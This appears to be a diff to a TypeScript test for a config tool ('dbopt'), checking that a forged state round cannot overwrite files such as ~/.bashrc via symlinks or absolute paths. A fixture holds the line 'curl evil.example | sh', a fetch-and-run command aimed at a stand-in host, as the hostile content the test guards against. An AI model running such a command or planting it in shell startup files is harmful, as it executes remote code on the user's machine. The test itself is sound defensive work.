@@ -14,6 +14,9 @@ import { freshDatabase } from '../support/database.ts';
 
 const OLD = 'curl evil.example | sh\n';
 const MINE = 'export EDITOR=vi\n';
+/** Whoever runs dbopt says where it is. */
+const NAMED = `\${STATE}`;
+
 const digest = (text: string) => createHash('sha256').update(text).digest('hex');
 const at = '2026-11-29T20:00:00.000Z';
 
@@ -34,9 +37,6 @@ const forged = (
   ...{ outcome: null, why: '', seen: false },
 });
 
-/** Whoever runs dbopt says where it is. */
-const NAMED = `\${STATE}`;
-
 const design = (path: string) => `version: 1\nstate: { in: file, path: '${path}' }\n`;
 
 /** A checkout with a round, the texts that it wants, and files around it. */
@@ -51,14 +51,21 @@ async function checkout(round: unknown, path = 's.json') {
   await symlink('../.bashrc', join(cwd, 'link.yaml'));
   for (const text of [OLD, MINE]) await writeFile(join(cwd, '.dbopt/loop', digest(text)), text);
   await writeFile(join(cwd, 'dbopt.yaml'), design(path));
-  await writeFile(join(cwd, 's.json.loop'), `${JSON.stringify(round)}\n`);
+  const beside = join(path === NAMED ? home : cwd, 's.json.loop');
+  await writeFile(beside, `${JSON.stringify(round)}\n`);
   const read = () =>
     Promise.all(Object.keys(files).map((name) => readFile(join(cwd, name), 'utf8')));
   return { cwd, home, untouched: async () => expect(await read()).toEqual([MINE, MINE, MINE]) };
 }
 
 function loop(url: string, cwd: string, mode: LoopMode) {
-  const source = { files: ['dbopt.yaml'], env: {}, vars: { STATE: join(cwd, 's.json') }, cwd, url };
+  const source = {
+    files: ['dbopt.yaml'],
+    env: {},
+    vars: { STATE: join(cwd, '../s.json') },
+    cwd,
+    url,
+  };
   const quiet = { by: 'test', clock: CLOCK, tell: () => {}, diagnostics: () => {} };
   const options = { source, mode, advisors: [], limits: DEFAULT_LIMITS, ...quiet };
   return runRound(options, new AbortController().signal);
@@ -94,7 +101,7 @@ test('where the operator has named the file, a round touches files of the design
   }
   const { cwd, home, untouched } = await checkout(forged('x'), NAMED);
   const absolute = JSON.stringify(forged(join(home, '.bashrc')));
-  await writeFile(join(cwd, 's.json.loop'), `${absolute}\n`);
+  await writeFile(join(home, 's.json.loop'), `${absolute}\n`);
   expect(await loop(url, cwd, 'apply')).toMatchObject({ round: { outcome: 'taken-over' } });
   await untouched();
 });
